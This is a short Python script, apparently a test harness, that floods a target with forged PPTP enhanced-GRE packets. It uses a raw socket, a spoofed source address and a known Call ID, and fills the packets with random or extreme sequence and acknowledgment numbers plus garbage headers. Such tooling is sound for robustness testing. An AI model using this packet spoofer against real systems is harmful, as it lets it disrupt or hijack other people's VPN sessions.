#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""
An adversary who can spoof a peer's address and knows the Call ID.

usage: forge.py FROM TO CALL-ID RATE

Sends RATE packets a second until it is killed: forged data, acknowledgments,
both in one, and garbage. Their numbers are random or extreme. The same each time.
"""
import random
import socket
import struct
import sys
import time

EXTREMES = (0, 1, 2, 0x7FFFFFFE, 0x7FFFFFFF, 0x80000000, 0x80000001, 0xFFFFFFFE, 0xFFFFFFFF)
KEY, SEQUENCE, ACK, VERSION = 0x2000, 0x1000, 0x0080, 1

source, target, call_id, rate = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
rng = random.Random(2637)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def number():
    return rng.choice(EXTREMES) if rng.random() < 0.5 else rng.randrange(2 ** 32)


def gre(flags):
    """A sound packet; what it carries is half an IP header."""
    payload = b"\x00\x21\x45" + rng.randbytes(9) if flags & SEQUENCE else b""
    packet = struct.pack("!HHHH", KEY | VERSION | flags, 0x880B, len(payload), call_id)
    for flag in SEQUENCE, ACK:
        if flags & flag:
            packet += struct.pack("!I", number())
    return packet + payload


def forged():
    kind = rng.randrange(4)
    if kind == 3:
        header = struct.pack("!HHHH", rng.randrange(2 ** 16), 0x880B, rng.randrange(2 ** 16), call_id)
        return header + rng.randbytes(rng.randrange(64))
    return gre((SEQUENCE, ACK, SEQUENCE | ACK)[kind])


def ip(payload):
    """The kernel adds the length and the checksum."""
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, rng.randrange(2 ** 16), 0, 64,
                       socket.IPPROTO_GRE, 0, socket.inet_aton(source),
                       socket.inet_aton(target)) + payload


start, sent = time.monotonic(), 0
while True:
    while sent < (time.monotonic() - start) * rate:
        raw.sendto(ip(forged()), (target, 0))
        sent += 1
    time.sleep(0.005)
